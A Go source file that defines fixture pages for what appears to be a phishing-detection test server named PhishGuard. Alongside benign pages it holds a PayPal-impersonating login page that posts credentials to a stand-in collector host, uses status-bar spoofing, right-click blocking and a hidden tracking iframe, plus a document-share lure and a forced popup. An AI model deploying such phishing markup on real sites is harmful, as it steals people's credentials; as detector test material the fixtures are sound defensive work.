package demoserver

// PageVersion is one variant of a page. A non-empty Redirect answers with
// Status (302 when zero) and a Location header instead of a body.
type PageVersion struct {
	HTML        string
	ContentType string
	Headers     map[string]string
	Redirect    string
	Status      int
}

// PageDefinition holds all versions of a single page.
type PageDefinition struct {
	Path        string
	Description string
	Versions    map[int]PageVersion
}

// GetAllPages returns all demo page definitions.
func GetAllPages() []PageDefinition {
	return []PageDefinition{
		getHomePage(),
		getLoginPage(),
		getArticlePage(),
		getPopupPage(),
		getRedirectStart(),
		getRedirectHop(),
		getDownloadPage(),
	}
}

// ===== HOME PAGE =====
func getHomePage() PageDefinition {
	return PageDefinition{
		Path:        "/",
		Description: "Index of the fixture pages",
		Versions: map[int]PageVersion{
			1: {
				HTML: `<!DOCTYPE html>
<html>
<head>
    <title>PhishGuard fixtures</title>
    <link rel="icon" href="/static/favicon.ico">
</head>
<body>
    <h1>PhishGuard fixture site</h1>
    <ul>
        <li><a href="/login">Sign-in page</a></li>
        <li><a href="/article">Plain article</a></li>
        <li><a href="/popup">Popup and right-click page</a></li>
        <li><a href="/redirect">Redirect chain</a></li>
        <li><a href="/download.bin">Binary download</a></li>
        <li><a href="/demo/control">Control panel</a></li>
    </ul>
</body>
</html>`,
			},
		},
	}
}

// ===== LOGIN PAGE =====
func getLoginPage() PageDefinition {
	return PageDefinition{
		Path:        "/login",
		Description: "Sign-in form; v2 is a brand-impersonating phishing kit",
		Versions: map[int]PageVersion{
			1: {
				HTML: `<!DOCTYPE html>
<html>
<head>
    <title>Sign in</title>
    <link rel="icon" href="/static/favicon.ico">
    <link rel="stylesheet" href="/static/site.css">
    <script src="/static/app.js"></script>
</head>
<body>
    <nav><a href="/">Home</a> | <a href="/article">Article</a></nav>
    <h1>Sign in</h1>
    <form action="/session" method="post">
        <input type="text" name="username">
        <input type="password" name="password">
        <button type="submit">Sign in</button>
    </form>
</body>
</html>`,
				Headers: map[string]string{
					"X-Frame-Options": "DENY",
				},
			},
			2: {
				HTML: `<!DOCTYPE html>
<html>
<head>
    <title>PayPal - Log In</title>
    <link rel="shortcut icon" href="https://www.paypalobjects.com/favicon.ico">
    <link rel="stylesheet" href="https://cdn.example-kit.net/paypal.css">
    <script src="https://cdn.example-kit.net/kit.js"></script>
</head>
<body oncontextmenu="return false">
    <img src="https://www.paypalobjects.com/logo.png">
    <h1>Confirm your PayPal account</h1>
    <p>Your account has been limited. Verify your identity to restore access.</p>
    <form action="http://collector.example-kit.net/submit.php" method="post">
        <input type="email" name="email">
        <input type="password" name="password">
        <button type="submit">Log In</button>
    </form>
    <form action="about:blank"><input type="image" src="https://cdn.example-kit.net/continue.png"><img src="https://cdn.example-kit.net/continue.png"></form>
    <a href="#">Forgot password?</a>
    <a href="javascript:void(0)">Help</a>
    <a href="https://www.paypal.com/privacy">Privacy</a>
    <a href="https://www.paypal.com/legal">Legal</a>
    <a href="mailto:drop@example-kit.net">Contact</a>
    <a href="https://www.paypal.com/" onmouseover="window.status='https://www.paypal.com/'; return true">paypal.com</a>
    <iframe src="https://tracker.example-kit.net/pixel" width="0" height="0"></iframe>
</body>
</html>`,
			},
		},
	}
}

// ===== ARTICLE PAGE =====
func getArticlePage() PageDefinition {
	return PageDefinition{
		Path:        "/article",
		Description: "Plain content page with only local links",
		Versions: map[int]PageVersion{
			1: {
				HTML: `<!DOCTYPE html>
<html>
<head>
    <title>Release notes</title>
    <link rel="icon" href="/static/favicon.ico">
    <link rel="stylesheet" href="/static/site.css">
</head>
<body>
    <nav><a href="/">Home</a> | <a href="/login">Sign in</a></nav>
    <article>
        <h1>Release notes</h1>
        <p>This build improves start-up time and fixes several rendering issues.</p>
        <img src="/static/chart.png" alt="chart">
    </article>
</body>
</html>`,
			},
			2: {
				HTML: `<!DOCTYPE html>
<html>
<head>
    <link rel="icon" href="https://cdn.example-kit.net/favicon.ico">
</head>
<body>
    <p>Document shared with you. Open it to continue.</p>
    <a href="https://docs.example-kit.net/open">Open document</a>
    <a href="https://docs.example-kit.net/open?alt">Open in browser</a>
    <frameset><frame src="https://docs.example-kit.net/viewer"></frameset>
</body>
</html>`,
			},
		},
	}
}

// ===== POPUP PAGE =====
func getPopupPage() PageDefinition {
	return PageDefinition{
		Path:        "/popup",
		Description: "Page that opens a popup and blocks the context menu",
		Versions: map[int]PageVersion{
			1: {
				HTML: `<!DOCTYPE html>
<html>
<head>
    <title>Special offer</title>
    <script>
        document.addEventListener("mousedown", function (e) {
            if (event.button == 2) { return false; }
        });
        window.onload = function () {
            window.open("https://offers.example-kit.net/claim", "offer", "width=400,height=300");
        };
    </script>
</head>
<body oncontextmenu="return false">
    <h1>You have won!</h1>
    <a href="#">Claim</a>
</body>
</html>`,
			},
		},
	}
}

// ===== REDIRECT CHAIN =====
func getRedirectStart() PageDefinition {
	return PageDefinition{
		Path:        "/redirect",
		Description: "First hop of a redirect chain ending at /login",
		Versions: map[int]PageVersion{
			1: {Redirect: "/redirect/hop", Status: 301},
		},
	}
}

func getRedirectHop() PageDefinition {
	return PageDefinition{
		Path:        "/redirect/hop",
		Description: "Second hop of the redirect chain",
		Versions: map[int]PageVersion{
			1: {Redirect: "/login", Status: 302},
		},
	}
}

// ===== NON-HTML =====
func getDownloadPage() PageDefinition {
	return PageDefinition{
		Path:        "/download.bin",
		Description: "Binary response; content features stay neutral",
		Versions: map[int]PageVersion{
			1: {
				HTML:        "\x00\x01\x02\x03binary",
				ContentType: "application/octet-stream",
			},
		},
	}
}
